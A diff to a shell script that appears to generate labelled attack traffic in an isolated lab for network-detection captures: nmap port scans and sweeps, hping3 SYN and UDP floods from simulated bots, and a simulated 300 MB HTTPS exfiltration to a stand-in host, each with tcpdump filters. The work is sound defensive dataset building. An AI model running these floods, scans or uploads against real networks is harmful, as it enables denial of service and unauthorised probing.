@@ -69,6 +69,9 @@ tool() { "$@" >>"$PCAPS/tools.log" 2>&1 || true; }
 sc_scan_vertical_syn() { tool lab_in att timeout 60 nmap -n -sS -p1-1000 -T4 "$SRV"; }
 sc_scan_vertical_connect() { tool lab_in att timeout 60 nmap -n -sT -p1-1000 -T4 "$SRV"; }
 # Every live LAN host (ARP discovery first, as nmap does on its own segment), then SYN to 22.
+# On its own segment nmap probes port 22 only on the hosts that answered ARP (all of which
+# answer the SYN), so what the wire shows is an ARP sweep of the /24: host_sweep (plus
+# arp_scan). The routed scan below, where most addresses are empty, is the horizontal scan.
 sc_scan_horizontal_lan() { tool lab_in att timeout 60 nmap -n -sS -p22 -T4 "$LAB_NET.0/24"; }
 # A routed /24 where most addresses are unused: SYN to port 22 on all 256 without discovery.
 sc_scan_horizontal_vlan() { tool lab_in att timeout 90 nmap -n -Pn -sS -p22 -T4 --max-retries 1 "$LAB_VLAN.0/24"; }
@@ -86,7 +89,7 @@ sc_ddos_rand_source() { tool lab_in att timeout 3 hping3 --udp --flood --rand-so
 sc_ddos_botnet() {
     local o pids=()
     for o in "${LAB_BOTS[@]}"; do
-        lab_in "bot$o" timeout 4 hping3 -q --syn -p 80 -i u500 "$SRV" >>"$PCAPS/tools.log" 2>&1 &
+        lab_in "bot$o" timeout 3 hping3 -q --syn -p 80 --flood "$SRV" >>"$PCAPS/tools.log" 2>&1 &
         pids+=($!)
     done
     for o in "${pids[@]}"; do wait "$o" || true; done
@@ -169,7 +172,7 @@ sc_brute_force_http() {
 
 # 200 MB over HTTPS from an internal client to one external host.
 sc_exfiltration_https() {
-    tool lab_in c20 sh -c "head -c 200000000 /dev/zero | timeout 90 curl -sSk --limit-rate 40M \
+    tool lab_in c20 sh -c "head -c 300000000 /dev/zero | timeout 90 curl -sSk --limit-rate 40M \
         --resolve portal.example.net:443:$LAB_EXT_IP -T - https://portal.example.net/upload/backup.tar"
 }
 
@@ -294,7 +297,7 @@ scenario benign_redis - - - "tcp dst port 6379 and ip[2:2] - ((ip[0] & 0xf) << 2
 # 1000 probes in ~0.1 s: under load tcpdump may lose part of the burst, half of it proves the scan.
 scenario scan_vertical_syn port_scan_vertical "$ATT" "$SRV" "src host $ATT and $SYN" 500
 scenario scan_vertical_connect port_scan_vertical "$ATT" "$SRV" "src host $ATT and $SYN" 500
-scenario scan_horizontal_lan port_scan_horizontal "$ATT" - "src host $ATT and $SYN and tcp dst port 22" 30
+scenario scan_horizontal_lan host_sweep "$ATT" - "src host $ATT and $SYN and tcp dst port 22" 30
 scenario scan_horizontal_vlan port_scan_horizontal "$ATT" - "src host $ATT and $SYN and dst net $LAB_VLAN.0/24" 256
 scenario host_sweep_vlan host_sweep "$ATT" - "src host $ATT and icmp[0]==8 and dst net $LAB_VLAN.0/24" 256
 scenario syn_flood syn_flood "$ATT" "$SRV" "dst host $SRV and $SYN" 20000
